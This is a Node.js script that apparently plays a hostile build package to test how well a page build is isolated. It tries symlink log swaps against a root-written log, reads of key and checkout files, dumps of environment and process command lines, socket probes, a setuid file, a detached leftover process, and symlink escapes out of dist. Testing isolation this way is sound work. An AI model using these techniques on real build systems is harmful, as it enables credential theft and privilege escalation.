// A hostile package in the page's build. `node hostile_page.mjs STEP`; targets.json says where things are. What it could do is
// written into the page: dist/report.json.
import { spawn } from "node:child_process";
import { mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { connect } from "node:net";

const targets = JSON.parse(readFileSync("targets.json", "utf8"));
const step = process.argv[2];

function tried(action) {
  try {
    return { got: String(action()) };
  } catch (error) {
    return { refused: error.code };
  }
}

function reached(where) {
  return new Promise((resolve) => {
    const socket = connect(where);
    socket.on("connect", () => (socket.destroy(), resolve({ got: "connected" })));
    socket.on("error", (error) => resolve({ refused: error.code }));
  });
}

// Root writes its log where the build may write, and opens it again for the next step.
function swapLogs() {
  for (const log of ["../log", "../../log", "log"]) {
    tried(() => {
      rmSync(log, { force: true });
      symlinkSync(targets.victim, log);
    });
  }
  console.log("written by the build");
}

async function report() {
  const found = {
    key: tried(() => readFileSync(targets.key)),
    data: tried(() => readdirSync(targets.data)),
    socket: await reached(targets.socket),
    loopback: await reached({ host: "127.0.0.1", port: targets.port }),
    checkout: tried(() => readFileSync(targets.checkout)),
    write: tried(() => writeFileSync(targets.written, "by the build")),
    processes: readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map((pid) => readFileSync(`/proc/${pid}/cmdline`, "utf8")),
    user: process.getuid(),
    capabilities: /CapEff:\s*(\w+)/.exec(readFileSync("/proc/self/status", "utf8"))[1],
    environment: process.env,
  };
  writeFileSync("dist/report.json", JSON.stringify(found));
}

function leaveProcess() {
  spawn(process.execPath, ["-e", `/* ${targets.token} */ setInterval(() => {}, 1000)`], { detached: true, stdio: "ignore" }).unref();
}

if (step !== "build") {
  swapLogs();
} else {
  swapLogs();
  mkdirSync("dist/assets", { recursive: true });
  writeFileSync("dist/index.html", "<p>built</p>");
  writeFileSync("dist/assets/page.js", "1", { mode: 0o4777 });
  if (targets.kind === "report") {
    await report();
    leaveProcess();
  } else if (targets.kind === "folder") {
    rmSync("dist", { recursive: true });
    symlinkSync(targets.closed, "dist");
  } else if (targets.kind === "file") {
    symlinkSync(targets.victim, "dist/page.txt");
  } else if (targets.kind === "inner folder") {
    symlinkSync(targets.closed, "dist/more");
  }
}
